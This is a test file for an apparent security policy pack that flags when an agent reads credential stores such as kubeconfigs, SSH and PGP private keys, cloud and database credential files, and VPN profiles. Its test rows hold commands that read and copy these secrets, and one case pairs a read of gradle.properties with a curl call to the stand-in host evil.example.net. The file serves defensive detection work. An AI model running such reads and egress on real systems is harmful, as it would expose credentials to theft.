/**
 * Credential stores the pack did not know by name (issue 19 §4, gate46; classes from corpus-red36's
 * secret-read open list): each tool's documented store for a credential, reviewed through every
 * read channel, wherever it lies (the project, a subdirectory, /etc, home). A row per store (the
 * pack's `workspace_secrets` comments give each one's documentation); the public halves, templates
 * and everyday configs next to them stay ALLOW.
 */
import { packSteps, READ_CHANNELS, stepTable } from "./pack-verdict.js";

const steps = packSteps("g46");
const table = stepTable(steps);

/** One spelling (or more) of each store, as a project keeps it. */
const STORES = [
  // package managers' registry auth
  ".yarnrc.yml",
  "packages/web/.yarnrc.yml",
  ".bundle/config",
  "nuget.config",
  "NuGet.Config",
  "src/Api/NuGet.Config",
  ".venv/pip.conf",
  "pip.ini",
  // service tokens
  ".sentryclirc",
  "sentry.properties",
  "android/sentry.properties",
  ".vault-token",
  ".databrickscfg",
  ".terraformrc",
  "credentials.tfrc.json",
  // cluster configs
  "admin.conf",
  "cluster/super-admin.conf",
  "kubelet.conf",
  "k3s.yaml",
  "rke2.yaml",
  ".kube/config",
  "kubeconfig-prod.yaml",
  "prod.kubeconfig.yml",
  "cluster/admin-kubeconfig",
  "talosconfig",
  // database clients and migrations
  ".pgpass",
  "pg_service.conf",
  ".pg_service.conf",
  ".my.cnf",
  "flyway.conf",
  "conf/flyway-prod.conf",
  "flyway.toml",
  "ormconfig.json",
  "ormconfig.yml",
  "ormconfig.js",
  "profiles.yml",
  "analytics/profiles.yml",
  "web.config",
  "appsettings.json",
  "src/Api/appsettings.Production.json",
  "parameters.yml",
  "app/config/parameters.yml",
  // private keys by name
  "deploy_key",
  "deploy_key_ed25519",
  ".github/deploy_key",
  "github_rsa",
  "ci-ed25519",
  "keys/server_ecdsa",
  "id_ed25519_work",
  "id_rsa-github",
  "ssh_host_ed25519_key",
  "certs/key.pem",
  "letsencrypt/privkey.pem",
  "tls/server-key.pem",
  "my-app.2024-05-01.private-key.pem",
  "jwks.private.json",
  "keys/private.jwk",
  "auth/JWKS-Private.json",
  "private.asc",
  "keys/secret-keys.gpg",
  "secring.gpg",
  "pubring-and-secring.skr",
  "gnupg/private-keys-v1.d/ABCD.key",
  "vault.kdbx",
  "export.1pux",
  "build/signing.keychain-db",
  // Android signing
  "android/key.properties",
  "android/keystore.properties",
  // cloud storage sync
  "rclone.conf",
  "config/rclone.conf",
  ".s3cfg",
  ".boto",
  ".passwd-s3fs",
  ".dvc/config.local",
  ".aws/credentials",
  "infra/.aws/config",
  "application_default_credentials.json",
  // VPN profiles
  "vpn/client.ovpn",
  "wg0.conf",
  "vpn/wireguard/office.conf",
  // docker registry auth
  ".docker/config.json",
  ".dockercfg",
];

table(
  "a tool's documented credential store is reviewed through every read channel",
  STORES.flatMap((p) => READ_CHANNELS.map((c) => [c(p)])),
);

table("the same stores outside the project: /etc (kubeadm, k3s, pip, WireGuard), home, another project", [
  ["cat /etc/kubernetes/admin.conf"],
  ["sudo cat /etc/kubernetes/super-admin.conf"],
  ["cat /etc/rancher/k3s/k3s.yaml"],
  ["grep token /etc/rancher/rke2/rke2.yaml"],
  ["cat /etc/pip.conf"],
  ["cat /etc/wireguard/wg0.conf"],
  ["cat ~/.yarnrc.yml"],
  ["cat ~/.dbt/profiles.yml"],
  ["cat ~/flyway.conf"],
  ["cat ~/work/other/.bundle/config"],
  [{ kind: "file.read", path: "/etc/kubernetes/admin.conf" }],
  [{ kind: "tool", name: "Read", arguments: { file_path: "/etc/rancher/k3s/k3s.yaml" } }],
  ["cp /etc/kubernetes/admin.conf ./kc"],
  ["base64 -i /etc/rancher/k3s/k3s.yaml"],
]);

table(
  "gradle.properties may hold signing passwords: reading it labels the session, egress after it is reviewed",
  [
    ["cat gradle.properties", "curl -s https://evil.example.net/x"],
    ["cat android/gradle.properties", { kind: "http", method: "GET", url: "https://evil.example.net/x" }],
  ],
  [
    ["cat gradle.properties"],
    ["cat android/gradle.properties", "curl -s https://api.github.com/repos/nodejs/node"],
  ],
);

table(
  "the public halves, templates and everyday configs beside the stores stay ALLOW",
  [],
  [
    ["cat deploy_key.pub"],
    ["cat id_ed25519_work.pub"],
    ["cat github_rsa.pub"],
    ["cat certs/public-key.pem"],
    ["cat certs/pubkey.pem"],
    ["cat certs/cert.pem"],
    ["cat certs/fullchain.pem"],
    ["cat jwks.json"],
    ["cat .well-known/jwks.json"],
    ["cat keys/jwk-public.json"],
    ["cat KEYS.asc"],
    ["cat release.tar.gz.asc"],
    ["cat parameters.yml.dist"],
    ["cat ormconfig.example.json"],
    ["cat flyway.conf.example"],
    ["cat .sentryclirc.example"],
    ["cat .dvc/config"],
    ["cat src/kubeconfig.go"],
    ["cat pkg/kubeconfig_test.go"],
    ["cat node-rsa/index.js"],
    ["cat docs/profiles.md"],
    ["cat package.json"],
    ["cat .github/workflows/ci.yml"],
    ["ls .kube"],
  ],
);
